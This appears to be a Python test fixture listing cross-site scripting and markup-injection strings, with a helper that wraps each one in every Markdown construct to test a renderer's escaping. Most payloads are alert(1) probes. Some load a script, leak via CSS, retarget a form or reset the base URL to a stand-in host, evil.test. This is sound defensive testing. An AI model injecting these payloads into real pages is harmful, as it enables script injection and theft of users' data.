"""Texts that others might write where we show them, each of which would run or load something in a page that takes it for markup."""

HOSTILE = [
    "<script>alert(1)</script>", "</title><script src=//evil.test/x.js></script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><svg onload=alert(1)>", "' autofocus onfocus='alert(1)", "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>*{background:url(//evil.test)}</style>", "<meta http-equiv=refresh content=0>",
    "<base href=//evil.test/>", "<form action=//evil.test><button>", "]]><script>alert(1)</script>", "<!--><script>alert(1)</script>",
    "\u202e<b>gnp.exe", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "$version$rows", "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\ufeff<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "`<b onclick=alert(1)>`",
]  # fmt: skip


def runbook(texts: list[str]) -> str:
    """A page of Markdown that holds each text in every construct."""
    shapes = (
        "# {0}", "{0}", "- {0}", "> {0}", "```\n{0}\n```", "| {0} |\n|---|\n| {0} |", "**{0}**", "[{0}](https://x.test/)",
    )  # fmt: skip
    return "\n\n".join(shape.format(text) for text in texts for shape in shapes)
